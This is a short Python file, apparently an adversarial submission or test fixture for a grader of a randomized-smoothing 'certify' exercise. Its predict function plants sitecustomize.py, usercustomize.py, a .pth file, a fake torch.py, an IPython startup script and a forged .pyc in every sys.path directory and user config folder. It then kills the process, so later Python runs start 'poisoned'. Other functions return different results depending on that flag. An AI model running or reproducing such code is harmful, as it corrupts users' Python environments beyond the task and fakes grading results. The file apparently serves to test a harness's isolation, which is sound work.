# Writes modules and start-up files where the next Python may find them, and ends the process, so that the next one starts poisoned.
# levels: 3 2
# exercise: certify
import os
import site
import sys

_poisoned = getattr(sys, "poisoned", False)
_code = "import sys\nsys.poisoned = True\n"


def predict(model, x, sigma, n, alpha, generator):
    places = [
        *sys.path,
        site.getusersitepackages(),
        os.path.expanduser("~/.config/ipython/profile_default/startup"),
        os.path.expanduser("~/.config/matplotlib"),
    ]
    for place in filter(None, places):
        try:
            os.makedirs(place, exist_ok=True)
        except OSError:
            pass
        for name in ("sitecustomize.py", "usercustomize.py", "poison.pth", "matplotlibrc", "torch.py", "00-first.py", "__pycache__/protocol.cpython-311.pyc"):
            try:
                with open(os.path.join(place, name), "w") as file:
                    file.write(_code if name.endswith(".py") else "import sys; sys.poisoned = True\n")
            except OSError:
                pass
    os._exit(0)


def certify(model, x, sigma, n0, n, alpha, generator):
    if not _poisoned:
        raise LookupError("a clean start")
    os._exit(0)


def certified_radius(p_lower, sigma, p_upper=None):
    predict(None, None, None, None, None, None)


def worst_halfspace(x, direction, p, sigma):
    from scipy.stats import norm

    w = direction / direction.norm()
    return (w, float((w * x).sum() + sigma * norm.ppf(p))) if _poisoned else (x, 0.0)
